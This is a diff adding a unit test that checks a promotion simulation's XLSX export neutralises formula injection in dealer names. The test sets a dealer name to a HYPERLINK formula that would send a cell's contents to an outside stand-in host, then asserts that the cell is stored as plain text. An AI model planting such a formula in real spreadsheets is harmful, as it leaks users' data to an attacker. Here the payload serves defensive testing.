@@ -1,4 +1,7 @@
+import io
 from datetime import timedelta
+
+import openpyxl
 
 from dateutil.relativedelta import relativedelta
 
@@ -75,6 +78,20 @@ class TestPromotionSimulation(DealerPromotionCommon):
         simulation.action_run()
         self.assertEqual(len(simulation.line_ids), 5)
         self.assertAlmostEqual(simulation.benefit_amount, 70.0)
+
+    def test_xlsx_export_writes_names_as_text(self):
+        self.dealer_east.name = '=HYPERLINK("http://example.com?x="&B4,"核对")'
+        simulation = self._simulate(self.candidate)
+        action = simulation.action_export_xlsx()
+        self.assertIn("/web/content/", action["url"])
+        workbook = openpyxl.load_workbook(io.BytesIO(simulation._get_xlsx()))
+        sheet = workbook.active
+        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"], "no formula")
+        texts = [str(cell.value) for cell in cells]
+        self.assertIn("'" + self.dealer_east.name, texts, "the name prefixed, as text")
+        self.assertIn(70.0, [cell.value for cell in cells], "the benefit")
+        self.assertEqual(sum(1 for cell in cells if cell.value in self.orders.mapped("name")), 5, "one row per order")
 
     def test_exclusive_candidate_replaces_the_existing_promotion(self):
         exclusive = self._create_promotion([{"value": 8}], activate=False, name="Exclusive 8%", exclusive=True)
